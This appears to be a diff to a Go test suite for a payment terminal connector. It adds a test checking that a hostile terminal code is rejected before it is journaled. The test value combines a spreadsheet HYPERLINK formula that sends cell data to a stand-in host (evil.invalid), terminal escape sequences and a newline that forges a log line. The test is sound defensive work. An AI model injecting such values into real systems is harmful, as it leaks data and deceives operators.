@@ -396,3 +396,23 @@ func TestLostJournalDoesNotReuseAnExternalID(t *testing.T) {
 	w.approve("TERMINAL-001")
 	w.checkPaidOnce(id, 100)
 }
+
+// A terminal code written by hand with a spreadsheet formula and terminal
+// escape sequences is refused before anything is journaled or sent.
+func TestHostileTerminalCodeIsRefusedBeforeTheWriteAhead(t *testing.T) {
+	w := newWorld(t, worldOptions{})
+	d := w.startDaemon(nil)
+	id := w.NewOrder(50, nil)
+	w.Flag(id, map[string]any{"x_compago_state": "requested",
+		"x_compago_terminal": "=HYPERLINK(\"http://evil.invalid/?x=\"&A1,\"ok\")\x1b[2J\x1b]0;pwned\a\nFAKE  LINE  recorded"})
+	o := w.WaitState(id, connector.StateFailed)
+	if msg, _ := o["x_compago_message"].(string); !strings.Contains(msg, "not a Compago terminal serial") {
+		t.Errorf("cashier reads %q", msg)
+	}
+	if _, err := d.journal.Latest(context.Background(), id); err == nil {
+		t.Errorf("the hostile terminal code was journaled")
+	}
+	if n := len(w.Compago.Intents()); n != 0 {
+		t.Errorf("%d intents created for a hostile terminal code", n)
+	}
+}
